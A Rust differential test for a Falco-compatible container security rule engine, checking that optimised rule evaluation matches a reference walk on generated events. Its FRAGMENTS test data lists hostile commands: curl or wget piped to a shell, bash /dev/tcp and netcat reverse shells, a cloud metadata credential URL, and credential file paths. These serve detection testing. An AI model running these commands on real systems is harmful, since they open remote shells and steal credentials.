//! Differential test of the optimised evaluation: a large set of random but plausible events
//! (process names and argument fragments taken from the rule files themselves, URLs, flags,
//! parent chains, standard streams on sockets, containers or the host, connections, file
//! writes...) goes through `RuleSet::evaluate` and through the plain reference walk of the
//! conditions as written (`RuleSet::evaluate_reference`); both must report the same rules with
//! the same outputs, event by event. Rule sets: Falco's stable rules plus ours, and a file of
//! rules written to reach the fields and operators those leave out.

use crate::support::compat;
use podwarden_api::event::{
    Ancestor, Connection, Container, Direction, Event, EventBody, FdInfo, FdKind, FileInfo,
    L4Protocol, Process, TcpState,
};
use podwarden_rules::{CompileOptions, RuleSet, RuleSource, Severity};
use std::collections::BTreeMap;
use std::net::SocketAddr;

/// Events per rule set.
const EVENTS: usize = 30_000;

/// A small deterministic generator (SplitMix64): the same events on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(n.max(1)).unwrap_or(1)).unwrap_or(0)
    }

    /// True with probability `percent`/100.
    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T: ?Sized>(&mut self, items: &[&'a T]) -> &'a T {
        items[self.below(items.len())]
    }
}

/// Words of the rule files: list items and quoted strings (process names, paths, needles).
fn vocabulary(texts: &[&str]) -> Vec<String> {
    let mut words = Vec::new();
    for text in texts {
        let mut in_items = false;
        for line in text.lines() {
            let trimmed = line.trim();
            if trimmed.starts_with("items:") {
                in_items = true;
            }
            if in_items {
                let body = trimmed.trim_start_matches("items:");
                for item in body.split([',', '[', ']']) {
                    let item = item.trim().trim_matches(['"', '\'']);
                    if !item.is_empty() && item.len() <= 40 {
                        words.push(item.to_string());
                    }
                }
                if trimmed.contains(']') {
                    in_items = false;
                }
            }
            for quote in ['"', '\''] {
                let mut parts = line.split(quote);
                parts.next();
                while let Some(inside) = parts.next() {
                    if !inside.is_empty() && inside.len() <= 40 && !inside.contains('%') {
                        words.push(inside.to_string());
                    }
                    parts.next();
                }
            }
        }
    }
    words.sort();
    words.dedup();
    words
}

/// Hand-picked argument fragments that the rules look for.
const FRAGMENTS: &[&str] = &[
    "-c",
    "-e",
    "-i",
    "-o ",
    "--donate-level",
    "stratum+tcp://pool.example:3333",
    "http://203.0.113.5/x.sh",
    "https://example.com/install.sh",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "curl -fsSL http://203.0.113.5/x.sh | sh",
    "wget -qO- http://198.51.100.7/a | bash",
    "curl http://x/y -o /tmp/y; chmod +x /tmp/y; ./y",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "0>&1",
    "/dev/tcp/10.0.0.1/9001",
    "/dev/udp/10.0.0.1/53",
    "mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f",
    "mknod /tmp/p p",
    "openssl s_client -connect x:443",
    "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)",
    "fsockopen",
    "TCPSocket",
    "dup2",
    "/etc/shadow",
    "/etc/passwd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "release_agent",
    "u+s",
    "4755",
    "+x",
    "-t 1",
    "--target=1",
    "/host",
    "/dev/sda1",
    "-t cgroup",
    "--exec",
    "exec:/bin/sh",
    "tcp:10.0.0.1:4444",
    "linpeas.sh",
    "CVE-2021-4034",
    "BEGIN PRIVATE",
    " pass ",
    "id_rsa",
    "aws_access_key_id",
    ".aws/credentials",
    "cap_setuid+ep",
    "/dev/shm/x",
    "./payload",
    "/tmp/go-build123/b001/exe/main",
    "-S 0.0.0.0:8000",
    "manage.py runserver",
    "gunicorn app:app",
    "maven",
    "npm start",
    "http.server",
    "SimpleHTTPServer",
    "-lvnp",
    "4444",
    "/var/www/html/shell.php",
    "x",
    "",
];

const DIRS: &[&str] = &[
    "/bin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/opt/app/",
    "/memfd:",
    "",
];

const CWDS: &[&str] = &[
    "/var/www/html",
    "/",
    "/tmp",
    "/dev/shm/",
    "/root",
    "/app",
    "/home/bob",
    "",
];

const USERS: &[&str] = &["root", "www-data", "nobody", "daemon", "postgres", "bob"];

const ADDRESSES: &[&str] = &[
    "203.0.113.5",
    "198.51.100.7",
    "169.254.169.254",
    "10.1.2.3",
    "10.0.0.1",
    "192.168.1.10",
    "127.0.0.1",
    "8.8.8.8",
    "100.100.100.200",
    "fd00::5",
    "::1",
    "2001:db8::7",
];

const PORTS: &[u16] = &[
    22, 53, 80, 443, 3333, 4444, 6667, 8080, 9001, 31337, 40000, 5432,
];

const IMAGES: &[&str] = &[
    "registry.example/shop/web:1.4",
    "docker.io/library/nginx:latest",
    "nginx",
    "docker.io/falcosecurity/falco:0.38",
    "ghcr.io/team/app@sha256:abc",
    "quay.io/sysdig/agent:12",
    "registry:5000/team/app",
];

const PATHS: &[&str] = &[
    "/var/www/html/index.php",
    "/var/www/html/up/shell.phtml",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/cron.d/job",
    "/root/.ssh/authorized_keys",
    "/tmp/x.sh",
    "/usr/share/nginx/html/a.jsp",
    "/app/uploads/report.pdf",
    "/x",
];

/// Random events drawn from the vocabulary.
struct Generator {
    rng: Rng,
    names: Vec<String>,
    next_id: u64,
}

impl Generator {
    fn word(&mut self) -> String {
        if self.rng.chance(60) {
            self.rng.pick(FRAGMENTS).to_string()
        } else {
            self.names[self.rng.below(self.names.len())].clone()
        }
    }

    fn name(&mut self) -> String {
        let name = self.names[self.rng.below(self.names.len())].clone();
        // Names are file names: the vocabulary holds paths and phrases too.
        let base = name.rsplit('/').next().unwrap_or(&name).replace(' ', "");
        if base.is_empty() {
            "sh".to_string()
        } else {
            base
        }
    }

    fn exe_path(&mut self, name: &str) -> String {
        format!("{}{name}", self.rng.pick(DIRS))
    }

    fn argv(&mut self, argv0: &str) -> Vec<String> {
        let mut argv = vec![argv0.to_string()];
        for _ in 0..self.rng.below(6) {
            if self.rng.chance(20) {
                // A shell command line made of several words.
                let words: Vec<String> = (0..1 + self.rng.below(5)).map(|_| self.word()).collect();
                argv.push(words.join(" "));
            } else {
                argv.push(self.word());
            }
        }
        argv
    }

    fn addr(&mut self) -> SocketAddr {
        let ip: std::net::IpAddr = self
            .rng
            .pick(ADDRESSES)
            .parse()
            .unwrap_or(std::net::IpAddr::from([10, 9, 9, 9]));
        SocketAddr::new(ip, PORTS[self.rng.below(PORTS.len())])
    }

    fn connection(&mut self, direction: Direction) -> Connection {
        let remote = self.addr();
        let local_ip: std::net::IpAddr = if remote.is_ipv4() {
            std::net::IpAddr::from([10, 1, 2, 3])
        } else {
            "fd00::9"
                .parse()
                .unwrap_or(std::net::IpAddr::from([0u8; 16]))
        };
        let udp = self.rng.chance(20);
        let states = [
            TcpState::Established,
            TcpState::SynSent,
            TcpState::Listen,
            TcpState::CloseWait,
        ];
        Connection {
            protocol: if udp {
                L4Protocol::Udp
            } else {
                L4Protocol::Tcp
            },
            local: SocketAddr::new(local_ip, 40_000 + self.rng.below(3) as u16),
            remote,
            state: if udp {
                None
            } else {
                Some(states[self.rng.below(states.len())])
            },
            direction,
        }
    }

    fn stream(&mut self) -> Option<FdInfo> {
        Some(match self.rng.below(6) {
            0 => return None,
            1 => FdInfo {
                kind: FdKind::Pipe,
                target: "pipe:[4242]".to_string(),
                connection: None,
            },
            2 => FdInfo {
                kind: FdKind::File,
                target: "/dev/pts/0".to_string(),
                connection: None,
            },
            3 => {
                let direction = if self.rng.chance(50) {
                    Direction::Outbound
                } else {
                    Direction::Inbound
                };
                let connection = self.connection(direction);
                FdInfo {
                    kind: if connection.local.is_ipv4() {
                        FdKind::Ipv4
                    } else {
                        FdKind::Ipv6
                    },
                    target: "socket:[9123]".to_string(),
                    connection: Some(connection),
                }
            }
            4 => FdInfo {
                kind: FdKind::Unix,
                target: "socket:[77]".to_string(),
                connection: None,
            },
            _ => FdInfo {
                kind: FdKind::File,
                target: "/dev/null".to_string(),
                connection: None,
            },
        })
    }

    fn process(&mut self) -> Process {
        let name = self.name();
        let exe = self.exe_path(&name);
        let argv0 = if self.rng.chance(70) {
            name.clone()
        } else {
            exe.clone()
        };
        let argv = self.argv(&argv0);
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let mut p = Process::new(1000 + self.rng.below(9000) as u32, &exe, &argv);
        if self.rng.chance(10) {
            // A comm that differs from the executable (renamed thread, hand-written event).
            p.name = self.name();
        }
        p.ppid = if self.rng.chance(90) { 900 } else { 0 };
        p.start_ts = 1_699_999_999_000_000_000;
        let user = self.rng.pick(USERS);
        p.uid = if user == "root" {
            0
        } else {
            self.rng.below(2000) as u32
        };
        p.user = if self.rng.chance(90) {
            Some(user.to_string())
        } else {
            None
        };
        p.gid = p.uid;
        p.group = p.user.clone();
        p.loginuid = match self.rng.below(3) {
            0 => None,
            1 => Some(u32::MAX),
            _ => Some(1000),
        };
        p.cwd = self.rng.pick(CWDS).to_string();
        p.tty = if self.rng.chance(20) { 34_816 } else { 0 };
        p.sid = [0, p.pid, 900, 800][self.rng.below(4)];
        p.pgid = [0, p.pid, 900][self.rng.below(3)];
        p.cap_effective = match self.rng.below(4) {
            0 => None,
            1 => Some(0),
            2 => Some(0x1_ffff_ffff),
            _ => Some(1 << 21),
        };
        p.cap_permitted = p.cap_effective;
        p.stdin = self.stream();
        p.stdout = if self.rng.chance(50) {
            p.stdin.clone()
        } else {
            self.stream()
        };
        p.stderr = self.stream();
        p.exe_from_memfd = self.rng.chance(3);
        p.exe_deleted = p.exe_from_memfd || self.rng.chance(3);
        p.tracer_pid = if self.rng.chance(3) { 77 } else { 0 };
        let depth = self.rng.below(7);
        for level in 0..depth {
            let name = self.name();
            let exe = self.exe_path(&name);
            let argv = self.argv(&name);
            let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
            let pid = if level + 1 == depth && self.rng.chance(50) {
                1
            } else {
                900 - 100 * level as u32
            };
            p.ancestors.push(Ancestor::new(pid, &exe, &argv));
        }
        p
    }

    fn container(&mut self) -> Option<Container> {
        if self.rng.chance(25) {
            return None;
        }
        let mut labels = BTreeMap::new();
        if self.rng.chance(60) {
            labels.insert(
                "app".to_string(),
                ["web", "db", "x"][self.rng.below(3)].to_string(),
            );
        }
        Some(Container {
            id: "3f2a9c1b7d4e5f60718293a4b5c6d7e8".to_string(),
            name: self.rng.chance(90).then(|| "app".to_string()),
            image: if self.rng.chance(90) {
                Some(self.rng.pick(IMAGES).to_string())
            } else {
                None
            },
            pod: self.rng.chance(90).then(|| "web-0".to_string()),
            namespace: Some(["shop", "kube-system", "default"][self.rng.below(3)].to_string()),
            pod_uid: Some("8e2f".to_string()),
            privileged: self.rng.chance(20),
            labels,
        })
    }

    fn file(&mut self) -> FileInfo {
        FileInfo {
            path: self.rng.pick(PATHS).to_string(),
            size: if self.rng.chance(80) {
                Some(self.rng.below(5000) as u64)
            } else {
                None
            },
            fd: if self.rng.chance(70) {
                Some(self.rng.below(20) as i32)
            } else {
                None
            },
        }
    }

    fn event(&mut self) -> Event {
        let process = self.process();
        let maybe = |rng: &mut Rng, p: Process| rng.chance(95).then_some(p);
        let body = match self.rng.below(20) {
            0..=9 => EventBody::ProcessExec { process },
            10 => EventBody::ProcessExit {
                process,
                exit_code: Some(0),
            },
            11 | 12 => EventBody::Connection {
                process: maybe(&mut self.rng, process),
                connection: self.connection(Direction::Outbound),
            },
            13 => EventBody::Connection {
                process: maybe(&mut self.rng, process),
                connection: self.connection(Direction::Inbound),
            },
            14 => EventBody::Listen {
                process: maybe(&mut self.rng, process),
                protocol: if self.rng.chance(70) {
                    L4Protocol::Tcp
                } else {
                    L4Protocol::Udp
                },
                local: self.addr(),
            },
            15 => EventBody::PacketSocket {
                process: maybe(&mut self.rng, process),
                socket_type: "raw".to_string(),
                protocol: 3,
            },
            16 => {
                let file = self.file();
                if self.rng.chance(50) {
                    EventBody::FileCreated {
                        process: maybe(&mut self.rng, process),
                        file,
                    }
                } else {
                    EventBody::FileModified {
                        process: maybe(&mut self.rng, process),
                        file,
                    }
                }
            }
            17 => EventBody::FileRenamed {
                process: maybe(&mut self.rng, process),
                file: self.file(),
                old_path: self.rng.pick(PATHS).to_string(),
            },
            18 => {
                let direction = if self.rng.chance(70) {
                    Direction::Outbound
                } else {
                    Direction::Inbound
                };
                EventBody::StdioSocket {
                    process,
                    fd: self.rng.below(3) as u8,
                    connection: self.connection(direction),
                }
            }
            _ => {
                let tracer_name = self.name();
                EventBody::PtraceAttached {
                    process,
                    tracer_pid: 77,
                    tracer: self.rng.chance(80).then(|| {
                        Ancestor::new(77, &format!("/usr/bin/{tracer_name}"), &[&tracer_name])
                    }),
                }
            }
        };
        self.next_id += 1;
        Event {
            v: 1,
            id: if self.rng.chance(5) { 0 } else { self.next_id },
            ts: 1_700_000_000_000_000_000 + self.next_id * 1_000_003,
            container: self.container(),
            body,
        }
    }
}

/// Rules reaching the fields and operators Falco's stable rules and ours leave out or use
/// little: any-ancestor and either-side fields, `!=` on missing values, globs, numbers,
/// networks, labels, capabilities, alternatives that merge, exceptions.
const COVERAGE_RULES: &str = r#"
- list: cov_shells
  items: [sh, bash, dash, zsh, ash]
- macro: cov_shell
  condition: proc.name in (cov_shells)
- rule: cov parent shell
  desc: t
  condition: evt.type in (execve, connect) and proc.name != bash and proc.pname = sh
  output: "%proc.name %proc.pname"
  priority: INFO
- rule: cov any ancestor
  desc: t
  condition: proc.aname in (nginx, php-fpm8.2, java, sh) and not proc.name in (ls, cat)
  output: "%proc.aname[1]"
  priority: INFO
- rule: cov fixed ancestors
  desc: t
  condition: proc.aname[2] = runc or proc.aexe[3] endswith sh or proc.aexepath[1] startswith /tmp
  output: "%proc.aname[2]"
  priority: INFO
- rule: cov either side
  desc: t
  condition: fd.ip != 10.1.2.3 and fd.port in (4444, 3333, 22)
  output: "%fd.name"
  priority: INFO
- rule: cov networks
  desc: t
  condition: fd.net in (10.0.0.0/8, 192.168.0.0/16) and not fd.rip = 8.8.8.8 or fd.port != 443
  output: "%fd.name"
  priority: INFO
- rule: cov ports
  desc: t
  condition: fd.sport < 1024 and fd.cport >= 30000 or fd.lport > 40001
  output: "%fd.sport"
  priority: INFO
- rule: cov globs
  desc: t
  condition: proc.cmdline glob "*curl*|*sh*" or proc.args iglob "*HTTP*" or fd.name glob "/etc/*"
  output: "%proc.cmdline"
  priority: INFO
- rule: cov paths
  desc: t
  condition: proc.exepath pmatch (/tmp, /dev/shm, /usr/local) or fd.name pmatch (/etc, /var/www/html)
  output: "%proc.exepath"
  priority: INFO
- rule: cov regex
  desc: t
  condition: proc.cwd startswith /var/www and proc.args regex ".*\.(php|sh).*"
  output: "%proc.cwd"
  priority: INFO
- rule: cov users
  desc: t
  condition: (user.name = root and proc.tty != 0) or user.loginuid = -1 and user.uid in (0, 33) or user.name != www-data and group.name = nobody
  output: "%user.name %user.loginuid"
  priority: INFO
- rule: cov images
  desc: t
  condition: container.image.repository endswith nginx or container.image.tag = latest or container.image.digest exists or container.name != app
  output: "%container.image"
  priority: INFO
- rule: cov labels
  desc: t
  condition: k8s.pod.label[app] = web and k8s.ns.name != kube-system or k8s.pod.name = web-0 and container.privileged = true
  output: "%k8s.pod.label[app]"
  priority: INFO
- rule: cov streams
  desc: t
  condition: proc.stdin.type in (ipv4, ipv6) or proc.stdout.name contains 4444 or proc.stderr.type = pipe and proc.stdin.name startswith /dev/pts
  output: "%proc.stdin.name %proc.stdout.name"
  priority: INFO
- rule: cov capabilities
  desc: t
  condition: thread.cap_effective icontains sys_admin or thread.cap_permitted contains CAP_CHOWN
  output: "%thread.cap_effective"
  priority: INFO
- rule: cov files
  desc: t
  condition: fd.name contains /etc/ and evt.is_open_write = true or fd.filename in (passwd, shadow) or fd.directory = /etc or podwarden.file.size > 4000
  output: "%fd.name %fd.directory %fd.filename"
  priority: INFO
- rule: cov renames
  desc: t
  condition: evt.arg.oldpath startswith /tmp or evt.arg.newpath endswith .php or evt.arg.name contains www
  output: "%evt.arg.oldpath"
  priority: INFO
- rule: cov podwarden fields
  desc: t
  condition: podwarden.proc.exe_deleted = true and not proc.is_exe_from_memfd = true or podwarden.proc.tracer_pid > 0 or podwarden.tracer.name in (gdb, strace, sh) or podwarden.conn.state = syn_sent or podwarden.event.kind = file_renamed
  output: "%podwarden.tracer.name"
  priority: INFO
- rule: cov existence
  desc: t
  condition: proc.name exists and not proc.pname exists or not user.name exists
  output: "%proc.name"
  priority: INFO
- rule: cov sessions
  desc: t
  condition: proc.sname = bash or proc.is_sid_leader = true or proc.is_vpgid_leader = false or proc.vpgid = 900
  output: "%proc.sname"
  priority: INFO
- rule: cov argument counts
  desc: t
  condition: proc.cmdnargs > 3 and proc.cmdlenargs < 40 or proc.cmdnargs = 0
  output: "%proc.cmdnargs"
  priority: INFO
- rule: cov command lines
  desc: t
  condition: proc.pcmdline contains "-c" and proc.acmdline[2] icontains "fpm" or proc.acmdline contains curl or proc.cmdline in ("sh -c x", "bash -i")
  output: "%proc.pcmdline"
  priority: INFO
- rule: cov host
  desc: t
  condition: container.id = host and cov_shell or container.full_id != host and proc.name = sh
  output: "%container.id"
  priority: INFO
- rule: cov results
  desc: t
  condition: evt.res = EINPROGRESS and fd.l4proto = tcp or evt.rawres < 0 or evt.failed = false and fd.num = 2 or fd.is_server = true and fd.connected = true
  output: "%evt.res"
  priority: INFO
- rule: cov alternatives
  desc: t
  condition: proc.name = bash or proc.name = sh or proc.name startswith py or proc.name startswith ph or proc.name contains ash or proc.name icontains PERL or proc.args contains curl or proc.args contains wget
  output: "%proc.name"
  priority: INFO
- rule: cov negated alternatives
  desc: t
  condition: not (proc.name in (nginx, java) or proc.pname in (sh, bash) or proc.pname = nginx) and cov_shell and proc.name != dash
  output: "%proc.name"
  priority: INFO
- rule: cov pids
  desc: t
  condition: proc.apid in (1, 700) and proc.ppid = 900 or proc.pid < 1100 or evt.num = 0 or evt.arg.pid > 5000 or evt.arg.newfd = 1
  output: "%proc.apid[1]"
  priority: INFO
- rule: cov exceptions
  desc: t
  condition: cov_shell and proc.args contains "-c"
  exceptions:
    - name: parents
      fields: [proc.pname, proc.cmdline]
      comps: [=, startswith]
      values:
        - [nginx, "sh -c"]
        - [runc, "bash"]
    - name: names
      fields: proc.pname
      values: [cron, tini]
  output: "%proc.cmdline"
  priority: INFO
- rule: cov socket arguments
  desc: t
  condition: evt.type = socket and evt.arg.domain = AF_PACKET and evt.arg.type = SOCK_RAW or evt.args contains proto=3
  output: "%evt.args"
  priority: INFO
- rule: cov time
  desc: t
  condition: evt.time contains ":13:3" and evt.time.iso8601 endswith "7Z" or proc.duration > 1020000000 and proc.duration < 1020500000
  output: "%evt.time"
  priority: INFO
"#;

fn sources(with_falco: bool) -> Vec<RuleSource> {
    let mut sources = RuleSet::builtin_sources();
    if with_falco {
        let path = compat("falco/falco_rules.yaml");
        let text = std::fs::read_to_string(&path)
            .unwrap_or_else(|err| panic!("cannot read {}: {err}", path.display()));
        sources.push(RuleSource::new("falco_rules.yaml", text));
    } else {
        sources.push(RuleSource::new("coverage.yaml", COVERAGE_RULES));
    }
    sources
}

/// (rule name, output) of every match, in order.
type Fired = Vec<(String, String)>;

fn optimised(set: &RuleSet, event: &Event) -> Fired {
    let mut fired = Vec::new();
    set.evaluate(event, &mut |m| {
        fired.push((m.rule.name.clone(), m.output.to_string()))
    });
    fired
}

fn reference(set: &RuleSet, event: &Event) -> Fired {
    let mut fired = Vec::new();
    set.evaluate_reference(event, &mut |m| {
        fired.push((m.rule.name.clone(), m.output.to_string()))
    });
    fired
}

/// Run `EVENTS` random events through both evaluations; returns how often each rule fired.
fn check(sources: &[RuleSource], seed: u64) -> BTreeMap<String, usize> {
    let (set, diagnostics) = RuleSet::compile(sources, &CompileOptions::default());
    let texts: Vec<&str> = sources.iter().map(|s| s.text.as_str()).collect();
    let coverage_errors: Vec<String> = diagnostics
        .iter()
        .filter(|d| d.severity == Severity::Error && d.file == "coverage.yaml")
        .map(ToString::to_string)
        .collect();
    assert!(
        coverage_errors.is_empty(),
        "coverage rules must compile:\n{}",
        coverage_errors.join("\n")
    );
    let mut generator = Generator {
        rng: Rng(seed),
        names: vocabulary(&texts),
        next_id: 0,
    };
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    let mut mismatches = Vec::new();
    for _ in 0..EVENTS {
        let event = generator.event();
        let fast = optimised(&set, &event);
        let slow = reference(&set, &event);
        if fast != slow && mismatches.len() < 5 {
            mismatches.push(format!(
                "event {}:\n  optimised {fast:?}\n  reference {slow:?}",
                serde_json::to_string(&event).unwrap_or_default()
            ));
        }
        for (rule, _) in slow {
            *counts.entry(rule).or_default() += 1;
        }
    }
    assert!(
        mismatches.is_empty(),
        "optimised and reference evaluations differ:\n{}",
        mismatches.join("\n")
    );
    counts
}

/// The events reach most rules, yet no rule fires on nearly everything (a test that matched
/// nothing, or everything, would compare little).
fn assert_coverage(set_name: &str, counts: &BTreeMap<String, usize>, at_least: usize) {
    let fired = counts.values().filter(|n| **n > 0).count();
    assert!(
        fired >= at_least,
        "{set_name}: only {fired} rules fired on the random events: {counts:?}"
    );
}

#[test]
fn optimised_evaluation_matches_reference_on_falco_and_own_rules() {
    let counts = check(&sources(true), 0x5eed_0001);
    assert_coverage("falco + own", &counts, 30);
}

#[test]
fn optimised_evaluation_matches_reference_on_coverage_rules() {
    let counts = check(&sources(false), 0x5eed_0002);
    let coverage_rules = COVERAGE_RULES.matches("- rule:").count();
    let fired = counts.keys().filter(|r| r.starts_with("cov ")).count();
    assert_eq!(
        fired, coverage_rules,
        "every coverage rule fires at least once: {counts:?}"
    );
    assert_coverage("own + coverage", &counts, 40);
}
